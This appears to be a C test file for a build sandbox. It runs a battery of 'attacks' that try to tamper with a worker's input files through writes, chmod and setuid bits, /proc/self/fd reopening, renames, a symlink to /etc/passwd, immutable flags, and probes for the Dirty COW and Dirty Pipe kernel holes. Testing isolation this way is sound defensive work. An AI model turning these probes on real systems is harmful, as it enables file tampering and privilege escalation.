/*
 * Writing to inputs. Some of it may succeed, on a copy of the action's own: what must not change is the file that the
 * worker keeps and gives to the next action. Each way has an input of its own: in/WAY.
 */
#include "evil.h"

#include <linux/falloc.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <sys/time.h>

static const char evil[] = "EVIL EVIL EVIL EVIL EVIL";

/* Writes through a path; says how far it came. */
static void write_path(const char *probe, const char *path, int flags) {
  int file = open(path, flags);
  if (file < 0) {
    tried(probe, -1);
    return;
  }
  tried(probe, write(file, evil, sizeof evil - 1));
  close(file);
}

static void plain(void) {
  write_path("write", "in/write", O_WRONLY);
  write_path("read_write", "in/write", O_RDWR);
  write_path("append", "in/append", O_WRONLY | O_APPEND);
  write_path("truncate", "in/truncate", O_WRONLY | O_TRUNC);
  TRY("truncate.call", truncate("in/truncate", 1));
}

static void after_chmod(void) {
  TRY("chmod", chmod("in/chmod", 0666));
  write_path("write", "in/chmod", O_WRONLY);
  TRY("setuid", chmod("in/setuid", 06777));
  int file = open("in/fchmod", O_RDONLY);
  TRY("fchmod", fchmod(file, 0666));
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  /* The descriptor was opened before the copy: it still leads to the file beneath. */
  write_path("reopen", path, O_RDWR);
  TRY("chmod.fd", chmod(path, 0666));
  write_path("reopen.again", path, O_RDWR | O_TRUNC);
  int bare = open("in/path", O_PATH);
  snprintf(path, sizeof path, "/proc/self/fd/%d", bare);
  write_path("o_path", path, O_RDWR);
  TRY("directory", chmod("in", 0777));
  TRY("chown", chown("in/chown", 0, 0));
  TRY("chown.own", chown("in/chown", getuid(), getgid()));
}

static void names(void) {
  TRY("link", link("in/link", "in/linked"));
  chmod("in/linked", 0666);
  write_path("link.write", "in/linked", O_WRONLY);
  int own = open("in/mine", O_WRONLY | O_CREAT, 0666);
  if (write(own, evil, sizeof evil) < 0) tried("mine", -1);
  TRY("rename.over", rename("in/mine", "in/rename"));
  TRY("rename.away", rename("in/away", "in/gone"));
  TRY("exchange", syscall(SYS_renameat2, AT_FDCWD, "in/exchange", AT_FDCWD, "in/gone", 2));
  TRY("unlink", unlink("in/unlink"));
  TRY("symlink", symlink("/etc/passwd", "in/unlink"));
  TRY("directory", rename("in/directory", "in/moved"));
}

static void metadata(void) {
  struct timespec times[2] = {{1, 1}, {1, 1}};
  TRY("utimens", utimensat(AT_FDCWD, "in/utimes", times, 0));
  int file = open("in/futimes", O_RDONLY);
  TRY("futimens", futimens(file, times));
  TRY("xattr", setxattr("in/xattr", "user.evil", "x", 1, 0));
  int flags = FS_IMMUTABLE_FL;
  int other = open("in/flags", O_RDONLY);
  TRY("immutable", ioctl(other, FS_IOC_SETFLAGS, &flags));
  TRY("directory", utimensat(AT_FDCWD, "in", times, 0));
}

/* Through memory: a mapping, and the two holes that let one write into the page cache of a file read-only opened. */
static void memory(void) {
  int file = open("in/map", O_RDONLY);
  char *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  tried("map", shared == MAP_FAILED ? -1 : 0);
  char *mapped = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
  TRY("mprotect", mprotect(mapped, 4096, PROT_READ | PROT_WRITE));
  /* CVE-2016-5195: /proc/self/mem writes where the process itself may not. */
  int own = open("/proc/self/mem", O_RDWR);
  TRY("self_mem", pwrite(own, evil, sizeof evil, (off_t)(uintptr_t)mapped));
  char *private = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  TRY("self_mem.private", pwrite(own, evil, sizeof evil, (off_t)(uintptr_t)private));
  /* CVE-2022-0847: a page of a file that was spliced into a full pipe could be written to. */
  int ends[2], spliced = open("in/splice", O_RDONLY);
  char block[4096] = {0};
  if (pipe(ends) != 0) return;
  for (int i = 0; i < 16; i++)
    if (write(ends[1], block, sizeof block) < 0) break;
  for (int i = 0; i < 16; i++)
    if (read(ends[0], block, sizeof block) < 0) break;
  off_t offset = 0;
  TRY("splice", splice(spliced, &offset, ends[1], NULL, 1, 0));
  TRY("splice.write", write(ends[1], evil, sizeof evil));
  TRY("fallocate", fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096));
  int target = open("in/sendfile", O_RDONLY);
  TRY("sendfile", sendfile(target, spliced, NULL, 8));
  TRY("copy_range", copy_file_range(spliced, NULL, target, NULL, 8, 0));
  TRY("clone", ioctl(target, FICLONE, spliced));
}

/* What the next action finds: content, mode, time, owner of each input. */
static void originals(void) {
  static const char *const names[] = {"write",  "append", "truncate", "chmod",    "setuid", "fchmod", "path", "chown",
                                      "link",   "rename", "away",     "exchange", "unlink", "utimes", "futimes",
                                      "xattr",  "flags",  "map",      "splice",   "sendfile"};
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
    char path[64], content[256] = {0};
    snprintf(path, sizeof path, "in/%s", names[i]);
    struct stat stat;
    int file = open(path, O_RDONLY);
    if (file < 0 || fstat(file, &stat) != 0 || read(file, content, sizeof content - 1) < 0) {
      tried(names[i], -1);
      continue;
    }
    content[strcspn(content, "\n")] = '\0';
    said(names[i], "%o %ld %u:%u %s", stat.st_mode & 07777, (long)stat.st_mtim.tv_sec, stat.st_uid, stat.st_gid, content);
    close(file);
  }
}

const struct attack input_attacks[] = {
    {"inputs_plain", plain, false},
    {"inputs_chmod", after_chmod, false},
    {"inputs_names", names, false},
    {"inputs_metadata", metadata, false},
    {"inputs_memory", memory, false},
    {"inputs_original", originals, false},
    {NULL, NULL, false},
};
